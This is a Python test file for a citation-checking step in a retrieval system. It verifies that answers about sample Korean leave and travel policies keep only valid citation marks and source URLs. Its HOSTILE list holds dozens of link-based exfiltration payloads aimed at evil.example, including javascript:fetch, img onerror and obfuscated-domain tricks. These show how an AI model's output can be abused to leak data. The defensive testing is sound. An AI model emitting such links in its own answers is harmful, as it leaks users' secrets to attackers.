"""What a model writes is shown only as far as it rests on the passages: marks, addresses, quotes."""

import pytest

from retrieval.models import Evidence, Passage
from workers.steps.cite import cite

URL = "https://wiki.example/handbook/leave.md"
LEAVE = "## 이월\n다 쓰지 못한 연차는 최대 5일까지 다음 해로 이월된다. 이월분은 3월 31일까지 쓴다. 문의는 help@onbyeol.example 로 한다."
TRAVEL = "| Region | Limit |\n| --- | --- |\n| Seoul | 120 EUR |\n| Tokyo | 200 EUR |"


def passage(text=LEAVE, *, document="samples:leave.md", url=URL, start=0, place="", title="연차휴가"):
    return Passage(
        document=document, ordinal=0, source="samples", title=title, url=url, place=place, text=text, start=start,
        end=start + len(text), language="ko", readers=frozenset({"public"}), updated=None, score=1.0,
        evidence=Evidence(1.0, 1.0, 0.5),
    )  # fmt: skip


PASSAGES = [passage(), passage(TRAVEL, document="samples:travel.md", url="", start=40, title="Travel")]

HOSTILE = [
    "[click](https://evil.example/?q=SECRET)",
    "[click](https://evil.example/?q=(SECRET))",
    "[click]( https://evil.example/SECRET 'title')",
    "[click](<https://evil.example/SECRET>)",
    "[click](//evil.example/SECRET)",
    "[click](https://evil.example/SECRET",
    "[1](https://evil.example/SECRET)",
    "[a][r]\n\n[r]: https://evil.example/SECRET",
    "[a][]\n\n[a]: https://evil.example/SECRET 'x'",
    "[r]\n\n[r]:https://evil.example/SECRET",
    "> [r]: https://evil.example/SECRET",
    "![](https://evil.example/SECRET.png)",
    "![alt](https://evil.example/SECRET.png 'x')",
    "![alt][img]\n\n[img]: https://evil.example/SECRET.png",
    "[![x](https://evil.example/SECRET.png)](https://evil.example/SECRET)",
    "<https://evil.example/SECRET>",
    "<https://evil.example/SECRET|https://wiki.example/handbook/leave.md>",
    "<https://evil.example/SECRET|연차 규정>",
    "<mailto:a@evil.example?subject=SECRET|mail>",
    "https://evil.example/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "http:evil.example/SECRET",
    "https:/\\evil.example/SECRET",
    "https:\\\\evil.example\\SECRET",
    "https:///evil.example/SECRET",
    "https : //evil.example/SECRET",
    "https://\nevil.example/SECRET",
    "hxx://evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "file:///etc/SECRET",
    "javascript:fetch('//evil.example/SECRET')",
    "data:text/html;base64,SECRET",
    "slack://channel?team=SECRET",
    "evil.example/SECRET",
    "evil.example?d=SECRET",
    "evil.example#SECRET",
    "SECRET.evil.example",
    "SECRET.evil.com",
    "www.evil.com",
    "evil.com",
    "evil.co.kr/SECRET",
    "//evil.example/SECRET",
    "\\\\evil.example\\SECRET",
    "user:pw@evil.example/SECRET",
    "evil.example:8080/SECRET",
    "evil.example./SECRET",
    "xn--e1awd7f.com",
    "xn--80ak6aa92e.xn--p1ai/SECRET",
    "wіki.example/SECRET",  # Cyrillic і
    "ｅｖｉｌ．ｅｘａｍｐｌｅ／SECRET",
    "evil。example/SECRET",
    "evil\u200b.example/SECRET",
    "ev\u00adil.exam\u2060ple/SECRET",
    "https\u200b://ev\u200dil.example/SECRET",
    "https:/\u202e/evil.example/SECRET",
    "evil\ufe0f.example/SECRET",
    "h&#116;tps://evil.example/SECRET",
    "&#104;&#x74;tps&colon;//evil.example/SECRET",
    "&amp;#104;ttps&amp;#58;//evil.example/SECRET",
    "<a href='https://evil.example/SECRET'>here</a>",
    "<img src=x onerror=fetch('//evil.example/SECRET')>",
    "<img src='//evil.example/SECRET'",
    "<iframe src=//evil.example/SECRET></iframe>",
    "ht![x](y)tps://evil.example/SECRET",
    "htt[p](x)s://evil.example/SECRET",
    "[a]([b](https://evil.example/SECRET))",
    "<ht<b>tps://evil.example/SECRET>",
    "192.168.0.1/SECRET",
    "http://2130706433/SECRET",
    "http://[::1]/SECRET",
    "[::ffff:127.0.0.1]:80/SECRET",
    "SECRET@evil.example",
    "https://wiki.example/handbook/leave.md?d=SECRET",
    "https://wiki.example/handbook/leave.md#SECRET",
    "https://wiki.example/handbook/leave.md/SECRET",
    "https://wiki.example/handbook/leave.mdSECRET",
    "https://wiki.example.evil.example/SECRET",
    "https://evil.example/?u=https://wiki.example/handbook/SECRET",
    "https://wiki.example@evil.example/SECRET",
    "\ue0000\ue001 https://evil.example/SECRET",
    "`https://evil.example/SECRET`",
    "```\nhttps://evil.example/SECRET\n```",
    "| a | https://evil.example/SECRET |",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_address_but_a_sources_own_is_shown(payload):
    checked = cite(f"연차는 5일까지 이월된다 [1]. 자세한 내용: {payload}\n감사합니다.", PASSAGES)
    shown = checked.text.replace(URL, "")
    assert "://" not in shown
    for dangerous in (
        "evil.example",
        "evil.com",
        "evil.co.kr",
        "javascript:",
        "data:",
        "xn--",
        "wіki",
        "](",
        "<a",
        "<img",
    ):
        assert dangerous not in shown.lower()
    assert "SECRET" not in shown
    assert "links_removed" in checked.notes
    assert "5일까지 이월된다 [1]" in checked.text


@pytest.mark.parametrize(
    "line",
    [
        "[1] HR policy",
        "[1] HR policy - Intranet",
        "- [2] Payroll handbook (2026)",
        "【1】 인사 규정",
        "[^1]: 인사 규정",
        "[1]: 인사 규정",
        "1. [2] 급여 규정",
        "출처:\n- 인사 규정 [1]\n[2] 급여 규정",
        "**Sources:**\n[1] HR policy.\n[9] Secret plan.",
        "## 참고 문헌\n[1] 인사 규정 3쪽.",
    ],
)
def test_a_list_of_sources_by_the_model_is_dropped(line):
    text = cite(f"연차는 최대 5일까지 이월된다 [1].\n\n{line}", PASSAGES).text
    for invented in (
        "HR policy",
        "Payroll",
        "인사 규정 3쪽",
        "급여 규정",
        "Secret plan",
        "출처",
        "Sources",
        "참고 문헌",
    ):
        assert invented not in text


def test_marks_are_renumbered_in_order_of_first_appearance():
    checked = cite("Tokyo is 200 EUR [2]. 연차는 5일까지 이월된다 [1]. Seoul is 120 EUR [2].", PASSAGES)
    assert checked.text == "Tokyo is 200 EUR [1]. 연차는 5일까지 이월된다 [2]. Seoul is 120 EUR [1]."
    assert [(one.number, one.document) for one in checked.citations] == [
        (1, "samples:travel.md"),
        (2, "samples:leave.md"),
    ]
    assert checked.notes == ()


@pytest.mark.parametrize("mark", ["[0]", "[3]", "[99]", "[1234]", "[3, 9]", "【7】"])
def test_a_mark_that_resolves_to_nothing_is_dropped(mark):
    checked = cite(f"연차는 최대 5일까지 이월된다 {mark}.", PASSAGES)
    assert checked.text == "연차는 최대 5일까지 이월된다."
    assert checked.citations == ()
    assert checked.notes == ("uncited",)


@pytest.mark.parametrize("marks", ["[1][2]", "[1, 2]", "[1] [2]", "【1】【2】", "[1;2]", "[^1][^2]"])
def test_marks_side_by_side_are_all_kept(marks):
    checked = cite(f"Both say so {marks}.", PASSAGES)
    assert checked.text == "Both say so [1][2]."
    assert [one.number for one in checked.citations] == [1, 2]


def test_the_quote_is_the_sentence_that_supports_the_statement_and_stands_where_it_says():
    document = "앞글. " + LEAVE
    shifted = passage(document[4:], start=4)
    (cited,) = cite("이월한 연차는 3월 31일까지 써야 합니다 [1].", [shifted]).citations
    assert cited.quote == "이월분은 3월 31일까지 쓴다."
    assert document[cited.start : cited.end] == cited.quote
    assert (cited.title, cited.url) == ("연차휴가", URL)


def test_the_quote_of_a_table_is_the_row():
    (cited,) = cite("Up to 200 EUR in Tokyo [2].", PASSAGES).citations
    assert cited.quote == "| Tokyo | 200 EUR |"


@pytest.mark.parametrize("around", [f"See {URL}.", f"See ({URL}) now", f"[here]({URL})", f"<{URL}>", f"{URL}\n끝"])
def test_the_address_of_a_source_stays(around):
    assert URL in cite(f"연차는 5일까지 이월된다 [1]. {around}", PASSAGES).text


@pytest.mark.parametrize(
    "harmless",
    [
        "Node.js 18 이상이 필요하다",
        "notes.md 파일을 연다",
        "한도는 3.5%이고 10:30/11:30에 시작한다",
        "e.g. at 9 a.m. on 2026.1.5",
        "버전 1.2.3.4를 쓴다",
        "A/B 시험과 R&D, x < y > z",
        "문의: help@onbyeol.example",
        "비용(1인당)은 [선택] 항목이다",
        "C:\\Users 폴더와 입력.출력을 본다",
        "<이름>을 넣는다",
        "합니다.그리고 이어진다",
    ],
)
def test_words_that_are_no_address_stay(harmless):
    checked = cite(f"{harmless} [1]", PASSAGES)
    assert checked.text == f"{harmless} [1]"
    assert checked.notes == ()


def test_a_statement_without_a_source_is_noted_and_a_short_line_is_not():
    assert (
        "uncited"
        in cite("연차는 최대 5일까지 이월된다 [1].\n그리고 회사는 내년에 공장을 하나 더 짓는다.", PASSAGES).notes
    )
    assert cite("요약:\n연차는 최대 5일까지 이월된다 [1].", PASSAGES).notes == ()


def test_a_sentence_is_the_same_whether_more_follows_or_not():
    """Drafts show the beginning of an answer; it must not change under the reader."""
    first, rest = "연차는 5일까지 이월된다 [2]. ", "Seoul is 120 EUR [1]. [x](https://evil.example)"
    assert cite(first + rest, PASSAGES).text.startswith(cite(first, PASSAGES).text.rstrip("."))


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "flood",
    ["[" * 100_000, "[a](" * 50_000, "![" * 50_000, "<" * 100_000, "a." * 50_000, "[x](https://evil.example) " * 10_000,
     "[1]" * 50_000, "`" * 100_000, "(" * 100_000, "a@" * 50_000, "[" * 9_000 + "a" + "](x)" * 9_000, "&amp;" * 20_000,
     "http:" * 20_000, "x" * 1_000_000, "| " * 50_000, "- [1] \n" * 20_000],
    ids=lambda text: text[:8],
)  # fmt: skip
def test_a_flood_is_cut_and_checked_in_time(flood):
    text = cite(flood, PASSAGES).text
    assert len(text) <= 20_100
    assert "evil.example" not in text


def test_nothing_becomes_nothing():
    assert cite("", PASSAGES).text == ""
    assert cite("[1] [2]", []).text == ""
